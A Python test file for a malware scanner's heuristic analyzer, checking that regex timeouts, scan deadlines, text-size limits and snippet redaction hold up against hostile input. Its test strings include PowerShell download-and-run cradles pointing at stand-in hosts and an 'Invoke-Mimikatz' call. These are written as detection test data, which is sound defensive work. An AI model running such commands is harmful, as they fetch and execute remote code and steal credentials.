"""Hostile input: every heuristic is bounded by the regex timeout and the scan deadline."""

from __future__ import annotations

from inspector.stage import ScanContext, ScanLimits
from inspector.analyzers.heuristics import HEURISTIC_ANALYZERS
from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import make_payload
from tests.timing import finishes_within_cpu, frozen_clock

ANALYZER = HEURISTIC_ANALYZERS[0]


def test_a_five_megabyte_single_line_is_scanned_to_the_end() -> None:
    # The deadline never passes: this case is about the work finishing, not about a limit.
    text = "A" * (5 * 1024 * 1024)
    with finishes_within_cpu():
        out = ANALYZER.analyze(make_payload(text, ArtifactType.TEXT), ScanContext(ScanLimits(), clock=frozen_clock))
    assert any(f.id == "heur.obfuscation.long_line" for f in out.findings)


def test_pathological_text_under_a_tiny_regex_timeout_reports_the_limit() -> None:
    # Many near-matches of the cradle vocabulary make the patterns work hard.
    text = ("iex downloadstring " * 20000 + "\n") * 5 + "curl " + "a" * 200_000 + " | "
    limits = ScanLimits(regex_timeout_s=0.0001)
    with finishes_within_cpu():
        out = ANALYZER.analyze(make_payload(text, ArtifactType.POWERSHELL), ScanContext(limits, clock=frozen_clock))
    assert any(kind == "limit_regex_timeout" for kind, _ in out.errors)


def test_an_expired_deadline_stops_the_families_and_says_so() -> None:
    ctx = ScanContext(limits=ScanLimits(deadline_s=0.0))
    out = ANALYZER.analyze(make_payload("IEX (iwr http://x.example/a)", ArtifactType.POWERSHELL), ctx)
    assert any(kind == "limit_deadline" for kind, _ in out.errors)


def test_text_beyond_the_configured_limit_is_not_scanned() -> None:
    limits = ScanLimits(max_text_chars=1024)
    text = "Write-Output 1\n" * 100 + "Invoke-Mimikatz"
    out = ANALYZER.analyze(make_payload(text, ArtifactType.POWERSHELL), ScanContext(limits=limits))
    assert not any(f.id == "heur.credential_access.mimikatz" for f in out.findings)


def test_snippets_are_bounded_and_redacted() -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('https://x.blob.core.windows.net/a.ps1?sv=2022&sig=SECRET123')"
    out = ANALYZER.analyze(make_payload(text, ArtifactType.POWERSHELL), ScanContext(limits=ScanLimits()))
    snippets = [f.snippet or "" for f in out.findings]
    assert all(len(s) <= 200 for s in snippets)
    assert not any("SECRET123" in s for s in snippets)


def test_binary_and_empty_payloads_are_ignored() -> None:
    assert not ANALYZER.accepts(make_payload("x", ArtifactType.PE).artifact)
    assert ANALYZER.analyze(make_payload("", ArtifactType.SHELL), ScanContext(limits=ScanLimits())).findings == []
